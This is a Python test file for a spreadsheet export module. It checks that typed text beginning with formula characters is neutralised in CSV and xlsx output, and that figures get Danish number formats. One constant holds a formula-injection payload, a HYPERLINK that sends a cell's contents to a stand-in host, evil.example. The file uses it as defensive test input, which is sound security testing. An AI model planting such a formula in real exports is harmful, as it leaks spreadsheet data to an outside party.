"""Exported spreadsheets: typed text is never run as a formula, and figures carry their format."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from samskab.core import spreadsheets
from samskab.core.spreadsheets import Kroner, Share

ATTACK = '=HYPERLINK("http://evil.example/?t="&B2,"Open")'
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_keeps_what_was_typed(text):
    safe = spreadsheets.neutralise(text)

    assert not safe[:1] or safe[0] not in FORMULA_STARTS
    assert safe in (text, "'" + text)
    if text[:1] in FORMULA_STARTS and text:
        assert safe == "'" + text


def test_a_csv_row_neutralises_text_but_not_numbers():
    row = spreadsheets.csv_row(
        [ATTACK, "-5 minutter", "@sum", "\tindrykket", "Almindelig", Decimal("-12.50"), -3, None]
    )

    assert row == [
        "'" + ATTACK,
        "'-5 minutter",
        "'@sum",
        "'\tindrykket",
        "Almindelig",
        "-12.50",
        "-3",
        "",
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerow(row)
    assert next(csv.reader(io.StringIO(buffer.getvalue())))[0] == "'" + ATTACK


def read_back(rows) -> list:
    workbook = spreadsheets.new_workbook()
    spreadsheets.add_sheet(workbook, "Ark", ["Tekst", "Tal"], rows)
    data = spreadsheets.to_bytes(workbook)
    return list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows())


def test_xlsx_text_that_looks_like_a_formula_stays_text_exactly_as_typed():
    attacks = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"]

    rows = read_back([[text] for text in attacks])

    cells = [row[0] for row in rows[1:]]
    # Python's XML parser reads a carriage return as a line break, lxml keeps it; the text
    # is otherwise exactly as typed.
    assert [cell.value.replace("\r", "\n") for cell in cells] == [
        text.replace("\r", "\n") for text in attacks
    ]
    assert {cell.data_type for cell in cells} == {"s"}  # never "f", nor an error
    assert all(cell.quotePrefix for cell in cells)  # and stays text when edited in Excel


def test_xlsx_plain_text_is_left_alone_and_text_like_an_error_stays_text():
    [_header, plain, error] = read_back([["Træn dig fri"], ["#N/A"]])

    assert (plain[0].value, plain[0].data_type, plain[0].quotePrefix) == (
        "Træn dig fri",
        "s",
        False,
    )
    assert (error[0].value, error[0].data_type) == ("#N/A", "s")


def test_xlsx_text_loses_characters_a_workbook_cannot_hold():
    [_header, row] = read_back([["Før\x00efter\x1b"]])

    assert row[0].value == "Førefter"


def test_xlsx_figures_carry_a_number_format():
    copenhagen = ZoneInfo("Europe/Copenhagen")
    [header, row] = read_back(
        [
            [
                Kroner(Decimal("1234.5")),
                Decimal("12.25"),
                2026,
                date(2026, 3, 1),
                datetime(2026, 3, 1, 9, 30, tzinfo=copenhagen),
                Kroner(None),
                Share(Decimal("0.418")),
            ]
        ]
    )

    assert header[0].font.b
    formats = [(cell.value, cell.number_format) for cell in row]
    assert formats == [
        (1234.5, '#,##0.00 "kr."'),
        (12.25, "#,##0.00"),
        (2026, "General"),
        (datetime(2026, 3, 1), "dd-mm-yyyy"),  # noqa: DTZ001 - as a workbook holds it
        (datetime(2026, 3, 1, 9, 30), "dd-mm-yyyy hh:mm"),  # noqa: DTZ001 - local time
        (None, "General"),
        (0.418, "0.0%"),
    ]
